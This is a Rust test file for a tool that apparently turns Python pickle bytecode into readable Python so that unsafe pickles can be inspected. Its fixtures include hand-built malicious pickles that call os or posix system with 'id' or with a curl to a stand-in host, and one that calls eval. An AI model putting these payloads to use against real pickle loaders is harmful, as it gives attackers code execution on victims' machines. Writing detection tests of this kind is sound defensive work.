use super::{Printed, python};
use crate::pickle::{Detail, lift};
use wb_core::{Budget, Bytes, Trigger};

fn print(data: &[u8], detail: Detail, readable: bool) -> Printed {
    let lifted = lift(Bytes::new(data), Trigger::Load, detail, &mut Budget::default());
    python(&lifted.programs[0], readable)
}

#[track_caller]
fn check(data: &[u8], expected: &str) {
    let printed = print(data, Detail::Full, true);
    assert_eq!(printed.text, expected);
    assert_eq!(printed.text.lines().count(), printed.lines.len());
}

#[test]
fn a_payload_reads_like_python() {
    check(
        b"cposix\nsystem\n(S'curl http://192.0.2.1/x'\ntR.",
        "from posix import system\nresult = system('curl http://192.0.2.1/x')\n",
    );
    check(
        b"\x80\x02cos\nsystem\nU\x02idR0]K\x01a.",
        "from os import system\n\nsystem(*'id')\nresult = [1]\n",
    );
    check(b"\x80\x04c__builtin__\neval\n\x8c\x011\x85R.", "result = eval('1')\n");
}

#[test]
fn calls_inside_what_nobody_reads_are_shown() {
    let source = "(run('id'), 1)\n(2, 3)\n";
    let program = crate::python::lift(source, Trigger::Import, &mut Budget::default());
    let printed = python(&program.expect("valid Python"), true);
    assert_eq!(printed.text, "(run('id'), 1)\n");
}

#[test]
fn names_that_no_import_can_spell_stay_text() {
    check(
        b"\x80\x04\x8c\x04a\nb;\x8c\x01x\x93.",
        "result = getattr(__import__('a\\nb;', fromlist=['']), 'x')\n",
    );
    check(
        b"\x80\x02cjson\nload\ncpickle\nload\n\x86.",
        "from json import load\nfrom pickle import load as load_2\n\nresult = (load, load_2)\n"
            .replace("\n\n", "\n")
            .as_str(),
    );
}

#[test]
fn what_is_used_twice_gets_a_name_and_lines_know_their_ops() {
    let data = b"\x80\x04cm\nC\n)\x81\x94}\x8c\x01ah\x00sb.";
    let printed = print(data, Detail::Full, true);
    assert_eq!(
        printed.text,
        "from m import C\n\nvalue_1 = C.__new__(C)\nvalue_1.__setstate__({'a': value_1})\nresult = value_1\n"
    );
    assert_eq!(printed.lines[0], [0]);
    assert!(printed.lines[2].contains(&1));
}
